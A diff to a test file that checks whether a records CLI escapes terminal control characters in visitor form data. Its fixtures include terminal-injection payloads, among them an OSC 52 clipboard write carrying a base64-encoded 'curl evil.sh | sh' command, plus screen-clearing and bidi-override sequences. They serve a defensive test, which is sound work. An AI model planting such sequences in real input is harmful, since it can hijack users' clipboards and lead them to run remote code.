@@ -2,11 +2,15 @@
 import { execFile } from "node:child_process"
 import path from "node:path"
 import { promisify } from "node:util"
-import { validBooking } from "../test-support/forms"
+import { validBooking, validContact } from "../test-support/forms"
 import { startApi } from "../test-support/peers"
 
 const run = promisify(execFile)
 const ROOT = path.resolve(__dirname, "../../..")
+const records = (env: NodeJS.ProcessEnv, ...args: string[]) => run(process.execPath, [path.join(ROOT, "node_modules/tsx/dist/cli.mjs"), "scripts/records.ts", ...args], { cwd: ROOT, env })
+
+// What a terminal would act on rather than show: C0 but the line feed that ends each line, DEL, C1, bidirectional controls, line and paragraph separators.
+const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
 
 describe("npm run records", () => {
   it("lists the suspected spam of the local outbox, and refuses a status that does not exist", async () => {
@@ -25,4 +29,34 @@ describe("npm run records", () => {
       await api.close()
     }
   })
+
+  it("shows the control characters of visitor text escaped, never raw, in the listing and in --json", async () => {
+    const api = await startApi()
+    try {
+      // Passes validation: a clipboard write (OSC 52, ended by BEL), a screen clear and cursor move, a C1 CSI, a bidi override.
+      const firstName = "Eve\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007"
+      const lastName = "X\u001b[2J\u001b[1;1H\u009b31m\u202eredro"
+      const real = await api.post("booking-requests", validBooking({ firstName, lastName }))
+      expect(real.status).toBe(201)
+      // Suspected spam keeps the fields as sent.
+      const spam = await api.post("contact-messages", validContact({ name: "Bot\u001b]52;c;ZXZpbA==\u0007", website: "http://spam.example" }))
+      expect(spam.status).toBe(201)
+      const env = { ...process.env, OUTBOX_DIR: api.outboxDir, NETLIFY_SITE_ID: "", NETLIFY_AUTH_TOKEN: "" }
+
+      const { stdout } = await records(env)
+      expect(stdout).toContain("2 records in")
+      expect(stdout).not.toMatch(TERMINAL_CONTROL)
+      expect(stdout).toContain("Eve\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 X\\x1b[2J\\x1b[1;1H\\x9b31m\\u{202e}redro")
+      expect(stdout).toContain("Bot\\x1b]52;c;ZXZpbA==\\x07")
+
+      const json = (await records(env, "--json")).stdout
+      expect(json).not.toMatch(TERMINAL_CONTROL)
+      // The same data, escaped the JSON way.
+      const listed = JSON.parse(json) as { data: Record<string, string> }[]
+      expect(listed.map((record) => record.data.firstName ?? record.data.name).sort()).toEqual(["Bot\u001b]52;c;ZXZpbA==\u0007", firstName])
+    } finally {
+      await api.close()
+    }
+  })
 })
+
